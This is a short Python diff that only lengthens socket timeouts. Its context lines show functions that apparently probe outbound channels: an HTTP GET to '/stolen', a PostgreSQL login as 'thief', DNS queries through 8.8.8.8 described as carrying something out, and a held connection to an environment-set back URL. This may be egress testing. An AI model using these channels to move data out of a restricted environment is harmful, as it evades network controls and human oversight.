@@ -35,7 +35,7 @@ def call(target):
     """HTTP to an address: of either family, no name is asked."""
     host, port = place(target)
     with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET) as link:
-        link.settimeout(5)
+        link.settimeout(20)
         link.connect((host, port))
         link.sendall(f"GET /stolen HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
         return heard(link)
@@ -44,7 +44,7 @@ def call(target):
 def sql(target):
     """As a client of PostgreSQL begins."""
     words = b"user\0thief\0database\0back\0\0"
-    with socket.create_connection(place(target), 5) as link:
+    with socket.create_connection(place(target), 20) as link:
         link.sendall(struct.pack("!ii", 8 + len(words), 196608) + words)
         return heard(link).replace("\0", " ")
 
@@ -72,7 +72,7 @@ def code(answer):
 def tunnel(target):
     """A question that carries something out, with room for a reply."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
-        link.settimeout(5)
+        link.settimeout(20)
         link.sendto(question(target), ("8.8.8.8", 53))
         return code(link.recv(4096))
 
@@ -80,7 +80,7 @@ def tunnel(target):
 def stream(target):
     """The same over TCP."""
     packet = question(target)
-    with socket.create_connection(("8.8.8.8", 53), 5) as link:
+    with socket.create_connection(("8.8.8.8", 53), 20) as link:
         link.sendall(struct.pack("!H", len(packet)) + packet)
         return code(link.recv(4096)[2:])
 
@@ -97,7 +97,7 @@ def strike(what):
 
 def hold():
     if not held:
-        held.append(http.client.HTTPConnection(*place(os.environ["BACK_URL"].removeprefix("http://")), timeout=5))
+        held.append(http.client.HTTPConnection(*place(os.environ["BACK_URL"].removeprefix("http://")), timeout=20))
     held[0].request("GET", "/")
     held[0].getresponse().read()
     return str(held[0].sock.getsockname()[1])
